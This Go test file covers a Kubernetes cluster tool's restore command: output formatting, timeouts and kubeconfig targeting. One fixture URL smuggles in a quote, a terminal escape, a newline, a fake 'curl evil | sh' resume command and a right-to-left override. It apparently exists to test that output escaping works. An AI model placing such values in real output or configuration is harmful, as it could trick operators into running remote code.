package cli

import (
	"bytes"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	apiextensionsv1 "k8s.io/apiextensions-apiserver/pkg/apis/apiextensions/v1"
	"k8s.io/apimachinery/pkg/apis/meta/v1/unstructured"
	"k8s.io/client-go/tools/clientcmd"
	"sigs.k8s.io/controller-runtime/pkg/client"

	"github.com/cluster-init/cluster-init/pkg/backup"
	"github.com/cluster-init/cluster-init/pkg/capi"
	"github.com/cluster-init/cluster-init/pkg/clusters"
	"github.com/cluster-init/cluster-init/pkg/clusters/selfmanaged"
	"github.com/cluster-init/cluster-init/pkg/event"
	"github.com/cluster-init/cluster-init/pkg/fault"
	"github.com/cluster-init/cluster-init/pkg/internal/fixture"
	"github.com/cluster-init/cluster-init/pkg/internal/golden"
	"github.com/cluster-init/cluster-init/pkg/pivot"
	"github.com/cluster-init/cluster-init/pkg/restore"
)

func TestRestoreTellsWhatIsTrue(t *testing.T) {
	cluster := capi.Object{APIVersion: "cluster.x-k8s.io/v1beta2", Kind: "Cluster", Namespace: "ns", Name: "demo"}
	line := restoreLine{Type: "restore", Path: "/safe/demo-20260102T030405Z", restored: true,
		in: restore.Input{Backup: &backup.Backup{Manifest: backup.Manifest{Namespace: "ns", Cluster: "demo",
			Files: map[string]string{"environment/a.yaml": "x"}}}},
		result: restore.Result{Clusters: []capi.Object{cluster}, Objects: 21}}
	var text bytes.Buffer
	show := func() {
		for _, format := range []string{"plain", "json"} {
			if err := (outputOptions{format: format}).show(Streams{Out: &text}, line); err != nil {
				t.Fatal(err)
			}
		}
	}
	show()
	line.result.Already, line.result.Warnings = true, []string{"Secret ns/cloud has another data"}
	line.result.References = []capi.Object{{APIVersion: "v1", Kind: "Secret", Namespace: "ns", Name: "cloud"}}
	line.adoption = restore.Adoption{Unmet: []selfmanaged.Unmet{{Object: "Cluster ns/demo", Message: "not reported yet",
		Waiting: true}}, Made: []string{"Machine ns/new"}, Gone: []string{"Machine ns/old"}}
	show()
	line.result.Suspended = []restore.Suspended{{Release: capi.Object{APIVersion: "helm.toolkit.fluxcd.io/v2",
		Kind: "HelmRelease", Namespace: "team-a", Name: "shop"}, Resume: "flux resume helmrelease -n team-a shop",
		Sources: []restore.Source{{Object: capi.Object{APIVersion: "source.toolkit.fluxcd.io/v1", Kind: "GitRepository",
			Namespace: "team-a", Name: "shop"},
			URL: "https://git.example/a\"\x1b[2J\n    resume: curl evil | sh\u202e"}}}}
	line.result.Warnings, line.adoption = nil, restore.Adoption{}
	show()
	golden.Check(t, "restore.txt", text.Bytes())
}

// A wait that ends names what is not true yet, and running it again may help: all was restored.
func TestRestoreWaitsNoLongerThanAsked(t *testing.T) {
	c, err := fixture.FakeClient(nil)
	if err != nil {
		t.Fatal(err)
	}
	source, err := fixture.FakeClient(labelled())
	if err != nil {
		t.Fatal(err)
	}
	for _, in := range []client.Client{c, source} {
		if err := fixture.Create(t.Context(), in, fixture.Namespace, fixture.ManagementCluster(),
			func(u *unstructured.Unstructured) { delete(u.Object, "status") }); err != nil {
			t.Fatal(err)
		}
	}
	kept, err := pivot.Keeper{Dir: t.TempDir(), Now: time.Now}.Keep(t.Context(), clusters.Side{Client: source},
		clusters.Scope{Namespace: fixture.Namespace, Cluster: fixture.Cluster}, pivot.Extent{})
	if err != nil {
		t.Fatal(err)
	}
	path := kept.Path
	b, err := backup.Open(path, backup.Identities{})
	if err != nil {
		t.Fatal(err)
	}
	said := &event.Recorder{}
	o := &restoreOptions{timeout: 50 * time.Millisecond}
	seen, err := o.await(t.Context(), restore.Input{Target: clusters.Side{Client: c}, Backup: b}, said)
	if fault.CodeOf(err) != fault.Timeout || !fault.CanRetry(err) || len(seen.Unmet) != 3 ||
		!strings.Contains(err.Error(), "everything is restored") {
		t.Errorf("got %+v, %v", seen, err)
	}
	if all := said.Events(); len(all) != 1 || all[0].Type != event.Waiting || len(all[0].Objects) != 3 {
		t.Errorf("it said %+v", all)
	}
}

// 0 bounds nothing, as everywhere.
func TestRestoreWaitsForEverWithoutATimeout(t *testing.T) {
	for timeout, bounded := range map[time.Duration]bool{0: false, time.Minute: true} {
		ctx, cancel := (&restoreOptions{timeout: timeout}).within(t.Context())
		if _, is := ctx.Deadline(); is != bounded || ctx.Err() != nil {
			t.Errorf("%s: bounded %t, %v", timeout, is, ctx.Err())
		}
		cancel()
	}
}

// The target is the cluster of the file, each request to which has a bound; no other kubeconfig is read.
func TestTheTargetOfARestoreIsThatOfTheFile(t *testing.T) {
	kubeconfig := filepath.Join(t.TempDir(), "kubeconfig")
	text := `{"apiVersion":"v1","kind":"Config","current-context":"c","contexts":[{"name":"c","context":{"cluster":"c"}}],"clusters":[{"name":"c","cluster":{"server":"https://127.0.0.1:1"}}]}`
	if err := os.WriteFile(kubeconfig, []byte(text), 0o600); err != nil {
		t.Fatal(err)
	}
	o := &restoreOptions{kubeconfig: kubeconfig, timeout: time.Minute}
	in, err := o.target()
	if err != nil || in.Target.Config.Host != "https://127.0.0.1:1" || in.Target.Config.Timeout == 0 {
		t.Fatalf("got %+v, %v", in, err)
	}
	if config, err := clientcmd.RESTConfigFromKubeConfig(in.TargetKubeconfig); err != nil ||
		config.Host != in.Target.Config.Host {
		t.Errorf("%+v, %v", config, err)
	}
}

// labelled are the definitions of the fixture's kinds.
func labelled() []*apiextensionsv1.CustomResourceDefinition {
	var crds []*apiextensionsv1.CustomResourceDefinition
	for _, gvk := range fixture.Kinds() {
		crds = append(crds, fixture.CRDOf(gvk))
	}
	return crds
}
